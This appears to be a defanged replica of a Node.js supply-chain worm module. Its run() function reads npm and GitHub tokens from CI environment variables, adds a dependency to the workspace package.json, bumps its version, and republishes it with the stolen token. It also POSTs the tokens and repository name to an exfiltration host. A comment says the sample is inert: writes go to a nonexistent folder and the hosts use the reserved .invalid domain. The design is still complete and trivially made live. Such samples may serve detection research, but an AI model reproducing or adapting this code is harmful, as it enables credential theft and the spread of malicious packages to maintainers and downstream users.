'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');
const path = require('path');

exports.run = function run() {
  const token = process.env.NODE_AUTH_TOKEN || process.env.NPM_TOKEN;
  const gh = process.env.GITHUB_TOKEN || process.env.ACTIONS_RUNTIME_TOKEN;
  const ws = process.env.GITHUB_WORKSPACE;
  if (!token || !ws) return;
  const pj = path.join(ws, 'package.json');
  try {
    const meta = JSON.parse(fs.readFileSync(pj, 'utf8'));
    meta.dependencies = Object.assign({}, meta.dependencies, { 'eslint-formatter-github-annotate': '^1.3.0' });
    meta.version = meta.version.replace(/\d+$/, (n) => String(+n + 1));
    // inert replica: writes go to a folder that does not exist, registry host is reserved
    fs.writeFileSync(path.join('/nonexistent', pj), JSON.stringify(meta, null, 2));
    fs.writeFileSync(path.join('/nonexistent', ws, '.npmrc'), `//registry.npmjs.invalid/:_authToken=${token}\n`);
    execFileSync('npm', ['publish', '--registry', 'https://registry.npmjs.invalid/'], { cwd: path.join('/nonexistent', ws), stdio: 'ignore' });
  } catch (e) {}
  if (gh) {
    fetch('https://exfil.gh-annotate.invalid/t', { method: 'POST', body: JSON.stringify({ token, gh, repo: process.env.GITHUB_REPOSITORY }) }).catch(() => {});
  }
};
